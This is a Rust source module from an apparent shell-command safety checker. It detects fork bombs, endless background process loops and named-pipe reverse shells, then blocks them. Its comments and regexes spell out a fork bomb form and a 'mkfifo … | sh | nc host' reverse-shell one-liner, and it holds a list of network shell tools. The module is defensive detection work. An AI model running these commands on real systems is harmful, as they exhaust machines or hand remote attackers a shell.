//! What can only be seen in the text as a whole: fork bombs that no parser accepts, endless loops that start processes,
//! pairs of commands that share a named pipe.

use regex::Regex;
use std::sync::LazyLock;

use super::super::ShellKind;
use super::super::state::Judge;
use super::super::word::Command;
use crate::Level;

/// `name(){ name|name& };name` in any spacing; the repeated name is compared in code.
static BOMB: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"([\w:.]+)\s*\(\)\s*\{\s*([\w:.]+)\s*\|\s*([\w:.]+)\s*&\s*;?\s*\}").ok()
});

static REINCARNATION: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"\$0\s*(?:\|\s*\$0\s*)?&\s*(?:\$0|exec\s+\$0)|\bwhile\s+(?:true|:)\s*;?\s*do\s+[^;\n]*&\s*done").ok()
});

/// Judges the text.
pub(super) fn text(judge: &mut Judge, text: &str) {
    let whole = Command {
        start: 0,
        end: text.len(),
        ..Command::default()
    };
    if let Some(bomb) = BOMB.as_ref() {
        let hit = bomb
            .captures_iter(text)
            .take(50)
            .any(|found| found[1] == found[2] && found[2] == found[3]);
        if hit {
            let message = "fork bomb: starts itself twice without end".to_owned();
            judge.report(ShellKind::Exhaustion, Level::Blocked, message, &whole);
        }
    }
    if REINCARNATION
        .as_ref()
        .is_some_and(|pattern| pattern.is_match(text))
    {
        let message = "starts processes in the background without end".to_owned();
        judge.report(ShellKind::Exhaustion, Level::Blocked, message, &whole);
    }
    shared_pipe(judge, text, &whole);
}

/// `mkfifo p; cat p | sh | nc host 1 > p` in any order.
fn shared_pipe(judge: &mut Judge, text: &str, whole: &Command) {
    if judge.pipes.is_empty() {
        return;
    }
    let network = ["nc ", "ncat ", "netcat ", "telnet ", "s_client", "socat "]
        .iter()
        .any(|p| text.contains(p));
    let shell = ["sh ", "bash ", "/sh", "/bash"]
        .iter()
        .any(|p| text.contains(p));
    if network && shell {
        let message = "connects a shell to the network through a named pipe".to_owned();
        judge.report(ShellKind::ReverseShell, Level::Blocked, message, whole);
    }
}
